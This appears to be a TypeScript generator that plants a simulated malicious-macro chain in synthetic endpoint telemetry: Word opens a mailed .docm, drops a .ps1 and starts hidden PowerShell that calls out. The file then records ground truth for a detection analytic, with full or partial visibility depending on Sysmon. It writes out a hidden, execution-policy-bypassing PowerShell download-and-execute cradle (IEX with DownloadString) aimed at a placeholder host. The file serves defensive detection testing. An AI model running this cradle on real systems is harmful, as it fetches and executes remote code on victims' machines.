import type { Micros } from '../../base/time';
import { type Day, later } from '../day';
import { type Desk, POWERSHELL, WINWORD } from '../noise/desk';
import { MAIL_CACHE } from '../noise/office';
import type { PlantedChain } from '../truth';

/**
 * A mailed document with a macro, AN1314: Word writes a payload and starts a hidden PowerShell that calls
 * out within three seconds.
 *
 *   OUTLOOK ── writes ….docm (marked) ── WINWORD ….docm ── writes ….ps1 ── powershell ── calls out
 *
 * `seen` says whether the machine has Sysmon at that hour. Without it only 4688 is left, without command
 * lines: that Word started PowerShell is certain, what arrived and what went out cannot be known.
 */
export function tellMacroDocument(day: Day, desk: Desk, at: Micros, seen: boolean): readonly PlantedChain[] {
  const { sensor, machine, random } = day;
  const document = `${machine.home}\\${MAIL_CACHE}\\${random.pick(['Supplier questionnaire', 'Applicant profile', 'Audit annex'])} ${random.int(10, 99)}.docm`;
  const name = `static-${random.hex(4)}.example`;
  const address = `203.0.113.${random.int(20, 220)}`;
  sensor.writes(at, desk.outlook, document);
  sensor.marks(later(at, 7), desk.outlook, document);
  const opened = later(at, 3100);
  const word = sensor.starts(opened, WINWORD, {
    parent: desk.outlook,
    commandLine: `"${WINWORD}" /n "${document}" /o ""`,
  });
  sensor.loads(later(opened, 600), word, [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\MSO.DLL',
    'C:\\Program Files\\Microsoft Office\\root\\vfs\\ProgramFilesCommonX64\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL',
    'C:\\Windows\\System32\\scrrun.dll',
  ]);
  sensor.sets(
    later(opened, 5200),
    word,
    `HKU\\${machine.owner.sid}\\SOFTWARE\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\${document}`,
    'Binary Data',
  );
  const spawned = later(opened, 9400);
  const payload = `${machine.home}\\AppData\\Local\\Temp\\${random.hex(6)}.ps1`;
  sensor.writes(later(spawned, -400), word, payload);
  const powershell = sensor.starts(spawned, POWERSHELL, {
    parent: word,
    commandLine: `powershell.exe -w hidden -nop -ep bypass -c "& '${payload}'; IEX ((New-Object Net.WebClient).DownloadString('https://${name}/a'))"`,
  });
  sensor.runsScript(
    later(spawned, 1200),
    powershell,
    `IEX ((New-Object Net.WebClient).DownloadString('https://${name}/a'))`,
  );
  sensor.resolves(later(spawned, 1900), powershell, name, address);
  sensor.connects(later(spawned, 2200), powershell, address, 443);
  sensor.ends(later(spawned, 340_000), powershell);
  sensor.ends(later(spawned, 700_000), word);

  const base = {
    analytic: 'AN1314',
    host: machine.host.toLowerCase(),
    anchor: day.named(powershell),
    processes: [day.named(word), day.named(powershell)],
  } as const;
  return [
    seen
      ? {
          ...base,
          status: 'complete',
          stages: { matched: ['user_app', 'file_arrival', 'spawn', 'egress'], absent: [], blind: [] },
          story: `a mailed document made Word start PowerShell, which called ${name} 1.9 s later`,
        }
      : {
          ...base,
          status: 'partial',
          stages: { matched: ['user_app', 'spawn'], absent: [], blind: ['file_arrival', 'egress'] },
          story: 'Word started PowerShell; files and network could not be seen at that time',
        },
  ];
}
